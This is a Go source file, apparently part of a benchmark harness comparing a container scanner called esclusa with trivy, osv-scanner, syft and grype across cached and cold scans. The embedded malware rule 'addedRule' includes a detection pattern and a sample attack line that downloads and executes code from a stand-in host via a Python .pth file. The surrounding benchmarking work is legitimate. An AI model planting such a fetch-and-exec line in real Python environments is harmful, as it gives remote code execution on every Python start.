package main

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// mode is what a scan looks for.
type mode int

const (
	packages   mode = iota // packages; with esclusa matched, too
	everything             // and secrets; with esclusa also malware and misconfiguration
	version                // no scan: the version alone
)

// benchCase is one line of the table for each tool.
type benchCase struct {
	name   string
	image  string
	mode   mode
	cached bool   // the tool may use its cache
	before string // the image that filled the cache before
	alone  bool   // of interest for esclusa and tools with a cache of layers
	// decoders: not scanners are compared, but what unpacks their layers.
	decoders bool
	rules    string // a folder of rules for malware that the cache does not know
}

func (b *bench) cases() []benchCase {
	at := func(name string) string { return filepath.Join(b.dir, name) }
	return []benchCase{
		{name: "packages, cold", image: at(largeImage), mode: packages},
		{name: "everything, cold", image: at(largeImage), mode: everything},
		{name: "nothing changed", image: at(largeImage), mode: everything, cached: true, before: at(largeImage)},
		{name: "one of six layers changed", image: at(changedImage), mode: everything, cached: true, before: at(largeImage)},
		{name: "a rule was added", image: at(largeImage), mode: everything, cached: true, before: at(largeImage), alone: true, rules: at(rulesFolder)},
		{name: "one static Go binary", image: at(goImage), mode: packages},
		{name: "Debian minimal", image: at(debianImage), mode: packages},
		{name: "3,000,000 empty files", image: at(emptyImage), mode: everything, alone: true},
		{name: "version", mode: version},
		{name: "inflate", image: at(largeImage), decoders: true},
	}
}

// tool is a scanner and how it is called.
type tool struct {
	name  string
	bin   string
	cache string // copied for every run: what the tool needs beforehand
	env   func(cache string) []string
	scan  func(image string, m mode) []string
	// cold are the flags that keep a scan from its cache, layers says that it
	// has one of layers.
	cold   []string
	layers bool
	// version are the arguments for it, fine the codes of success, count a
	// script that says what is in the report $1.
	version []string
	fine    func(code int) bool
	count   string
}

// args is nil where the case is nothing for the tool.
func (t *tool) args(c benchCase) []string {
	switch {
	case c.mode == version:
		return t.version
	case c.cached && !t.layers, c.alone && t.name != "esclusa":
		return nil
	}
	args := t.scan(c.image, c.mode)
	if args != nil && !c.cached {
		args = append(args, t.cold...)
	}
	if c.rules != "" {
		args = append(args, "--malware-rules", c.rules)
	}
	return args
}

const rulesFolder = "rules"

// addedRule is a rule as a team writes it on the day after an incident: code
// that runs whenever Python starts.
const addedRule = `
- id: python-start
  title: Python runs a download at each start
  severity: high
  why: Files of these names are run by every Python process, whatever it was started for.
  file: {type: text, paths: ['**/*.pth', '**/sitecustomize.py', '**/usercustomize.py']}
  strings:
    import: {text: 'import '}
    fetch: {regexp: 'urlopen|requests\.get|socket\.connect', near: import}
  condition: fetch
  path: usr/lib/python3/dist-packages/a.pth
  attack: 'import urllib.request; exec(urllib.request.urlopen("http://198.51.100.7/a").read())'
  benign: 'import site; site.addsitedir("/opt/lib")'
`

// writeRules writes the folder of the case.
func (b *bench) writeRules() error {
	dir := filepath.Join(b.dir, rulesFolder)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(dir, "added.yaml"), []byte(addedRule), 0o600)
}

func esclusaTool(bin, cache string) tool {
	return tool{
		name: "esclusa", bin: bin, cache: cache, layers: true, cold: []string{"--no-cache"}, version: []string{"version"},
		env: func(cache string) []string { return []string{"XDG_CACHE_HOME=" + cache} },
		scan: func(image string, m mode) []string {
			args := []string{"scan", image, "--quiet", "--output", "json"}
			if m == packages {
				args = append(args, "--packages-only")
			}
			return args
		},
		fine:  func(int) bool { return false },
		count: `echo "$(grep -c '^{"package"' "$1") packages, $(grep -c '"kind":"secret"' "$1") secrets"`,
	}
}

// peers are those that are installed. All of them work here without a
// network, and so without a database of vulnerabilities: they list packages
// and match nothing, which is the smaller task.
func (b *bench) peers(ctx context.Context) []tool {
	var tools []tool
	for _, t := range []tool{trivy(), osvScanner(), syft(), grype()} {
		bin, err := exec.LookPath(t.name)
		if err != nil {
			continue
		}
		t.bin = bin
		if out, err := exec.CommandContext(ctx, bin, t.version...).Output(); err == nil {
			t.name = strings.TrimSpace(t.name + " " + versionIn(string(out)))
		}
		tools = append(tools, t)
	}
	return tools
}

// versionIn finds the first word that looks like a version.
func versionIn(s string) string {
	for word := range strings.FieldsSeq(s) {
		if v := strings.TrimPrefix(word, "v"); v != "" && '0' <= v[0] && v[0] <= '9' && strings.Contains(v, ".") {
			return v
		}
	}
	return ""
}

// trivy lists packages without a database only as an SBOM, and stops at the
// first jar without its Java database: jars are left out for it.
func trivy() tool {
	return tool{
		name: "trivy", version: []string{"--version"}, layers: true,
		env: func(cache string) []string {
			return []string{"TRIVY_CACHE_DIR=" + cache, "TRIVY_DISABLE_VEX_NOTICE=true"}
		},
		scan: func(image string, m mode) []string {
			args := []string{"image", "--quiet", "--input", image, "--offline-scan", "--skip-version-check", "--disable-telemetry"}
			if m == packages {
				return append(args, "--format", "cyclonedx", "--skip-files", "**/*.jar")
			}
			return append(args, "--format", "json", "--scanners", "secret", "--timeout", "30m")
		},
		fine:  func(int) bool { return false },
		count: `echo "$(grep -c '"purl":' "$1") packages, $(grep -c '"RuleID":' "$1") secrets"`,
	}
}

func osvScanner() tool {
	return tool{
		name: "osv-scanner", version: []string{"--version"},
		env: func(cache string) []string { return []string{"HOME=" + cache} },
		scan: func(image string, m mode) []string {
			if m != packages {
				return nil
			}
			return []string{"scan", "image", "--archive", image, "--all-packages", "--format", "json", "--offline-vulnerabilities", "--verbosity", "error"}
		},
		// 1 is a vulnerability found, 127 no database.
		fine:  func(code int) bool { return code == 1 || code == 127 },
		count: `echo "$(grep -c '"package": {' "$1") packages"`,
	}
}

func syft() tool {
	return tool{
		name: "syft", version: []string{"--version"},
		env: func(cache string) []string {
			return []string{"SYFT_CHECK_FOR_APP_UPDATE=false", "XDG_CACHE_HOME=" + cache}
		},
		scan: func(image string, m mode) []string {
			if m != packages {
				return nil
			}
			return []string{"scan", "oci-archive:" + image, "--quiet", "--output", "syft-table"}
		},
		fine:  func(int) bool { return false },
		count: `echo "$(($(wc -l < "$1") - 1)) packages"`,
	}
}

func grype() tool {
	return tool{
		name: "grype", version: []string{"version"},
		env: func(cache string) []string {
			return []string{"GRYPE_CHECK_FOR_APP_UPDATE=false", "GRYPE_DB_AUTO_UPDATE=false"}
		},
		scan: func(image string, m mode) []string {
			if m != packages {
				return nil
			}
			return []string{"oci-archive:" + image, "--quiet", "--output", "json"}
		},
		fine:  func(int) bool { return false },
		count: `echo "$(grep -c '"vulnerability": {' "$1") matches"`,
	}
}
